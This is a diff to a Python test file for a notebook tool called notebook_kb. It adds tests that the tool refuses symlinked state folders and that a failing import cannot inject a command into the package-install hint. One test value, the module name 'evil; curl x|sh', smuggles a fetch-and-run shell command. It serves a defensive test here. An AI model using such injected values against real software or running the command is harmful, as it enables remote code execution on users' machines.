@@ -12,15 +12,15 @@ import pytest
 from click.testing import CliRunner
 
 from notebook_kb.cli.main import main
-from notebook_kb.errors import NotTrustedError
+from notebook_kb.errors import NotTrustedError, UsageError
 from notebook_kb.files import trust as store
 from notebook_kb.learning.coverage import State as Written
 from notebook_kb.learning.coverage import cover
 from notebook_kb.model.evidence import CodeState
 from notebook_kb.parsing.code_parts import key_of
 from notebook_kb.preview.state import State
+from notebook_kb.running.report import Limits
 from notebook_kb.running.results import figure_path, result_path
-from notebook_kb.running.runner import Limits
 from notebook_kb.workspace.build import BuildOptions, build
 from notebook_kb.workspace.code import chosen_notes, run_notes
 from notebook_kb.workspace.evidence import evidence_of
@@ -222,6 +222,70 @@ def test_a_cache_that_is_a_link_is_not_emptied_through_it(tmp_path: Path) -> Non
     Workspace(root, TODAY).load()
     assert (precious / "thesis.md").is_file()
     assert not (root / ".kb" / "cache").is_symlink()
+
+
+@pytest.mark.parametrize("linked", [".kb", "deep/er", "deep/er/state", "results", "reviews", "published"])
+def test_a_state_folder_that_is_a_link_is_refused_and_nothing_is_touched_through_it(
+    linked: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Red when a notebook from elsewhere can have files of this computer deleted, written or read."""
+    root, precious = book(tmp_path / "b", trusted=False), tmp_path / "precious"
+    (precious / "cache").mkdir(parents=True)
+    (precious / "cache" / "notes.sqlite").write_text("years", encoding="utf-8")
+    (precious / "notes").mkdir()
+    (precious / "notes" / "rank.md.json").write_text("years", encoding="utf-8")
+    before = {p: p.stat().st_mtime_ns for p in precious.rglob("*")}
+    if linked.startswith("deep"):
+        (root / "notebook.yml").write_text("title: Book\nstate: deep/er/state\n", encoding="utf-8")
+    path = root / (linked if linked.startswith((".", "deep")) else f".kb/{linked}")
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.symlink_to(precious, target_is_directory=True)
+    monkeypatch.chdir(root)
+    for words in (
+        ["check"],
+        ["list"],
+        ["run"],
+        ["build"],
+        ["trust"],
+        ["mv", "rank", "other"],
+        ["review"],
+        ["init"],
+    ):
+        done = CliRunner().invoke(main, words)
+        assert isinstance(done.exception, UsageError), (words, done.output)
+        assert "is a symbolic link" in str(done.exception) or words == ["init"]
+    assert {p: p.stat().st_mtime_ns for p in precious.rglob("*")} == before
+
+
+def test_a_new_notebook_is_not_begun_through_a_link(tmp_path: Path) -> None:
+    """Red when `kb init` in a folder from elsewhere writes into another one."""
+    (tmp_path / "other").mkdir()
+    (tmp_path / "vault").mkdir()
+    (tmp_path / "vault" / ".kb").symlink_to(tmp_path / "other")
+    done = CliRunner().invoke(main, ["init", str(tmp_path / "vault")])
+    assert isinstance(done.exception, UsageError)
+    assert list((tmp_path / "other").iterdir()) == []
+    assert not (tmp_path / "vault" / "notebook.yml").exists()
+
+
+@pytest.mark.parametrize(
+    ("code", "lacking"),
+    [
+        ("import nosuch.part", "nosuch"),
+        ("raise ModuleNotFoundError(\"No module named 'evil; curl x|sh'\")", ""),
+        ("raise ModuleNotFoundError('named evil')", ""),
+    ],
+)
+def test_only_the_name_of_a_package_is_proposed_to_be_installed(
+    code: str, lacking: str, tmp_path: Path
+) -> None:
+    """Red when a note can put a command of its own into the one that is shown to be copied."""
+    root = book(tmp_path / "b", RANK.replace("def rank", f"{code}\ndef rank"))
+    workspace = Workspace(root, TODAY)
+    notebook = workspace.load().notebook
+    (done,) = run_notes(workspace, notebook, list(notebook.notes.values()), Path(sys.executable), Limits())
+    assert done.lacking == lacking
+    assert result_path(root / ".kb", "notes/rank.md").exists() == (not lacking)
 
 
 def test_without_a_folder_of_ones_own_no_cache_is_used(
